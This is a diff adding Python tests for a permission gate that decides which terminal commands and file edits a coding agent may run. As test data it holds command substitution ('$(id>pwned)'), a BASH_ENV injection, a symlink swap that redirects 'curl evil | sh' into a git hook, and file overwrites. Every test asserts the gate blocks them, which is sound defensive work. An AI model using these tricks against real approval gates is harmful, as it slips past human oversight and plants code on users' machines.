@@ -198,3 +198,192 @@ async def test_the_demo_agent_runs_nothing_when_refused(tmp_path: Path) -> None:
         assert len(decider.asked) == 1
         assert created == []
         assert "did not run" in agent_texts(reg, session.session_id)
+
+
+# ------------------------------------------------------- what an approval covers, exactly
+
+
+class AgentAsksOnly:
+    """Allows what the agent asked for itself; refuses (and counts) what the gate asks."""
+
+    def __init__(self, during: Any = None) -> None:
+        self.asked: list[Any] = []
+        self.during = during  # called while the agent's own request is being decided
+
+    async def decide(self, request: Any, queue: Any) -> str | None:
+        self.asked.append(request)
+        if "(the agent did not ask)" in request.title:
+            return request.option_of_kind("reject_once")  # type: ignore[no-any-return]
+        if self.during is not None:
+            self.during()
+        return request.option_of_kind("allow_once")  # type: ignore[no-any-return]
+
+    def gate_asks(self) -> list[Any]:
+        return [r for r in self.asked if "(the agent did not ask)" in r.title]
+
+
+def execute(command: Any, **raw_input: Any) -> dict[str, Any]:
+    return ask({"toolCallId": "c1", "title": "Run", "kind": "execute", "status": "pending",
+                "rawInput": {"command": command, **raw_input}})
+
+
+def terminal(command: str, *args: str, **params: Any) -> dict[str, Any]:
+    return {"request": "terminal/create",
+            "params": {"command": command, "args": list(args), **params}}
+
+
+async def test_approving_a_literal_does_not_let_its_expansion_run(tmp_path: Path) -> None:
+    decider = AgentAsksOnly()
+    async with registry(config(), decider) as reg:
+        sid = await run(reg, tmp_path, [execute("echo '$(id>pwned)'"),
+                                         terminal("sh", "-c", "echo $(id>pwned)")])
+        (gate,) = decider.gate_asks()
+        assert gate.command == "sh -c 'echo $(id>pwned)'"
+        assert answers(reg, sid)[-1][1]["error"]["code"] == -32001
+    assert not (tmp_path / "pwned").exists()
+
+
+async def test_approving_a_command_does_not_cover_it_with_an_env_it_did_not_show(
+        tmp_path: Path) -> None:
+    (tmp_path / "evil.sh").write_text("touch pwned\n")
+    decider = AgentAsksOnly()
+    evil = [{"name": "BASH_ENV", "value": "evil.sh"}]
+    async with registry(config(), decider) as reg:
+        sid = await run(reg, tmp_path, [execute("true"), terminal("bash", "-c", "true", env=evil)])
+        (gate,) = decider.gate_asks()
+        assert gate.command == "BASH_ENV=evil.sh bash -c true"  # the env is shown
+        assert answers(reg, sid)[-1][1]["error"]["code"] == -32001
+    assert not (tmp_path / "pwned").exists()
+
+
+async def test_approving_a_command_does_not_cover_it_in_another_directory(
+        tmp_path: Path) -> None:
+    (tmp_path / "sub").mkdir()
+    decider = AgentAsksOnly()
+    async with registry(config(), decider) as reg:
+        await run(reg, tmp_path, [execute("true"), terminal("true", cwd=str(tmp_path / "sub"))])
+        (gate,) = decider.gate_asks()
+        assert gate.title == f"Run `true` in {tmp_path / 'sub'} (the agent did not ask)"
+
+
+@pytest.mark.parametrize("spelled", [
+    terminal("sh", "-c", "echo hello world"), terminal("echo", "hello", "world"),
+    terminal("/bin/sh", "-c", "echo  'hello' world", cwd="CWD"),
+    terminal("sh", "-c", "echo hello world | cat"),
+])
+async def test_an_agent_that_asked_for_a_command_runs_it_as_it_likes_unasked_again(
+        tmp_path: Path, spelled: dict[str, Any]) -> None:
+    # As codex asks (a shell line, and its cwd), then runs it through terminal/create.
+    line = "echo hello world | cat" if "| cat" in str(spelled) else "echo hello world"
+    spelled = json.loads(json.dumps(spelled).replace("CWD", str(tmp_path)))
+    decider = AgentAsksOnly()
+    async with registry(config(), decider) as reg:
+        sid = await run(reg, tmp_path, [execute(line, cwd=str(tmp_path)), spelled])
+        assert decider.gate_asks() == []
+        assert "terminalId" in answers(reg, sid)[-1][1]
+
+
+async def test_what_the_gate_itself_asked_is_not_asked_again(tmp_path: Path) -> None:
+    decider = ScriptedDecider("allow_once")
+    env = [{"name": "LOUISE_TEST", "value": "1"}]
+    async with registry(config(), decider) as reg:
+        sid = await run(reg, tmp_path, [terminal("true", env=env), terminal("true", env=env),
+                                         terminal("sh", "-c", "true", env=env)])
+        (request,) = decider.asked
+        assert request.command == "LOUISE_TEST=1 true"
+        assert all("terminalId" in answer for _, answer in answers(reg, sid))
+
+
+async def test_approving_a_command_naming_a_file_does_not_cover_writing_it(
+        tmp_path: Path) -> None:
+    victim = tmp_path / "victim.txt"
+    victim.write_text("kept\n")
+    decider = AgentAsksOnly()
+    run_on = ask({"toolCallId": "c1", "title": "Run", "kind": "execute",
+                  "rawInput": {"command": "cat victim.txt"},
+                  "locations": [{"path": str(victim)}]})
+    async with registry(config(), decider) as reg:
+        sid = await run(reg, tmp_path, [run_on, write(victim, "owned\n")])
+        (gate,) = decider.gate_asks()
+        assert gate.kind == "edit" and gate.diffs[0]["newText"] == "owned\n"
+        assert answers(reg, sid)[-1][1]["error"]["code"] == -32001
+    assert victim.read_text() == "kept\n"
+
+
+def hook_setup(tmp_path: Path) -> tuple[Path, Path]:
+    hooks = tmp_path / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    hook = hooks / "post-checkout"
+    hook.write_text("#!/bin/sh\n")
+    notes = tmp_path / "notes.txt"
+    notes.write_text("old\n")
+    return notes, hook
+
+
+def edit_notes(notes: Path) -> dict[str, Any]:
+    return ask({"toolCallId": "c1", "title": "Edit notes.txt", "kind": "edit",
+                "content": [{"type": "diff", "path": str(notes), "oldText": "old\n",
+                             "newText": "new\n"}]})
+
+
+async def test_an_approved_file_swapped_for_a_link_after_the_approval_is_asked_again(
+        tmp_path: Path) -> None:
+    notes, hook = hook_setup(tmp_path)
+    decider = AgentAsksOnly()
+    async with registry(config(), decider) as reg:
+        sid = await run(reg, tmp_path, [edit_notes(notes), {"link": [str(notes), str(hook)]},
+                                         write(notes, "curl evil | sh\n")])
+        (gate,) = decider.gate_asks()
+        assert gate.paths == (str(hook),)  # the question names where it would land
+        assert answers(reg, sid)[-1][1]["error"]["code"] == -32001
+    assert hook.read_text() == "#!/bin/sh\n"
+
+
+async def test_an_approved_file_swapped_for_a_link_while_it_was_asked_is_asked_again(
+        tmp_path: Path) -> None:
+    notes, hook = hook_setup(tmp_path)
+
+    def swap() -> None:
+        notes.unlink()
+        notes.symlink_to(hook)
+
+    decider = AgentAsksOnly(during=swap)
+    async with registry(config(), decider) as reg:
+        await run(reg, tmp_path, [edit_notes(notes), write(notes, "curl evil | sh\n")])
+        assert len(decider.gate_asks()) == 1
+    assert hook.read_text() == "#!/bin/sh\n"
+
+
+async def test_an_approved_link_still_leading_where_it_did_is_written(tmp_path: Path) -> None:
+    real = tmp_path / "real.txt"
+    real.write_text("old\n")
+    link = tmp_path / "link.txt"
+    link.symlink_to(real)
+    decider = AgentAsksOnly()
+    async with registry(config(), decider) as reg:
+        await run(reg, tmp_path, [edit_notes(link), write(link, "new\n")])
+        assert decider.gate_asks() == []
+    assert real.read_text() == "new\n"
+
+
+# ------------------------------------------------------- permission params louise cannot read
+
+
+@pytest.mark.parametrize("params", [
+    {"toolCall": {"toolCallId": "c1", "title": "T", "kind": "edit"}, "options": 5},
+    {"toolCall": {"toolCallId": "c1", "title": "T", "kind": "edit", "content": 7},
+     "options": [{"optionId": "yes", "name": "Yes", "kind": "allow_once"}]},
+    {"toolCall": {"toolCallId": "c1", "title": "T", "locations": {"path": "/x"}},
+     "options": []},
+    {"toolCall": "edit", "options": []},
+])
+async def test_a_permission_request_of_the_wrong_shape_is_an_invalid_params_error(
+        tmp_path: Path, params: dict[str, Any]) -> None:
+    decider = ScriptedDecider("allow_once")
+    async with registry(config(), decider) as reg:
+        sid = await run(reg, tmp_path, [{"request": "session/request_permission",
+                                         "params": params}])
+        ((method, answer),) = answers(reg, sid)
+        assert method == "session/request_permission"
+        assert answer["error"]["code"] == -32602
+        assert decider.asked == []
